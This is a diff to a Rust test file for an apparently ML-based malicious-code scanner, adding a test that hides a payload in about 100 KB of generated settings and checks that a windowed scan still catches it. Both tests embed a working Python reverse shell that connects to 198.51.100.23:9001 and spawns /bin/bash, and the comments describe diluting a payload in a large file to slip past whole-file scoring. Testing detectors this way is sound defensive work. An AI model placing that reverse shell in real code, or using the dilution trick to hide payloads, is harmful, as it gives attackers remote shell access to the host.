@@ -109,10 +109,12 @@ fn loader_refuses_tampering() {
 
 #[test]
 fn payload_inside_large_benign_file_is_found() {
-    // ~60 KB of library-style benign code with a reverse shell appended: the whole-file vector
-    // is diluted, the tail window is not. (Not the benign templates back to back: many of them
-    // are hard negatives on purpose - installers that download and chmod, metric beacons, chat
-    // alerts - and dozens of unrelated scripts in a row are not what a benign module looks like.)
+    // ~60 KB of library-style benign code (one class repeated) with a reverse shell appended.
+    // Its vocabulary is small, so the whole-file vector alone still finds the payload; the
+    // window path is tested below on a file that does dilute it. (Not the benign templates back
+    // to back: many of them are hard negatives on purpose - installers that download and chmod,
+    // metric beacons, chat alerts - and dozens of unrelated scripts in a row are not what a
+    // benign module looks like.)
     let m = model();
     let mut text = String::from(
         "import json\nimport logging\nimport os\n\nlog = logging.getLogger(__name__)\n\n",
@@ -135,12 +137,50 @@ fn payload_inside_large_benign_file_is_found() {
     text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n");
     let r = scan(&m, text.as_bytes());
     assert!(r.malicious, "{r:?}");
-    // When the whole-file vector alone stays below the threshold, the window found it.
-    let whole = m.score(&ward_ml::Extractor::new().analyze(text.as_bytes()).features);
-    if whole < r.threshold {
-        assert!(
-            r.top_reasons[0].starts_with("suspicious region at bytes"),
-            "{r:?}"
-        );
+}
+
+#[test]
+fn payload_diluted_in_a_large_data_module_is_found_by_its_window() {
+    // ~100 KB of module-level settings with a varied vocabulary, then a reverse shell: the
+    // whole-file vector is diluted below the threshold, the tail window is not.
+    let m = model();
+    let words = [
+        "account", "balance", "cache", "draft", "entry", "folder", "group", "handler", "index",
+        "journal", "kernel", "ledger", "member", "notice", "order", "parcel", "quota", "record",
+        "schedule", "ticket", "update", "vendor", "widget", "zone", "author", "branch", "column",
+        "digest", "export", "filter", "gadget", "header", "invoice", "label", "margin", "number",
+        "option", "period", "query", "report", "sample", "table", "unit", "value", "window",
+    ];
+    let mut text = String::from("# Generated settings.\n\n");
+    let mut i = 0usize;
+    while text.len() < 100_000 {
+        let w = |k: usize| words[(i * 7 + k * 13 + i / words.len()) % words.len()];
+        text.push_str(&format!(
+            "{}_{}_{i} = {{'{}': '{} {}', '{}': {i}, '{}': ['{}', '{}']}}\n",
+            w(0).to_uppercase(),
+            w(1).to_uppercase(),
+            w(2),
+            w(3),
+            w(4),
+            w(5),
+            w(6),
+            w(0),
+            w(1)
+        ));
+        i += 1;
     }
+    let clean = scan(&m, text.as_bytes());
+    assert!(!clean.malicious, "{clean:?}");
+    text.push_str("import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.23',9001))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/bash')\n");
+    let whole = m.score(&ward_ml::Extractor::new().analyze(text.as_bytes()).features);
+    let r = scan(&m, text.as_bytes());
+    assert!(
+        whole < r.threshold,
+        "whole-file score {whole} is not diluted"
+    );
+    assert!(r.malicious, "{r:?}");
+    assert!(
+        r.top_reasons[0].starts_with("suspicious region at bytes"),
+        "{r:?}"
+    );
 }
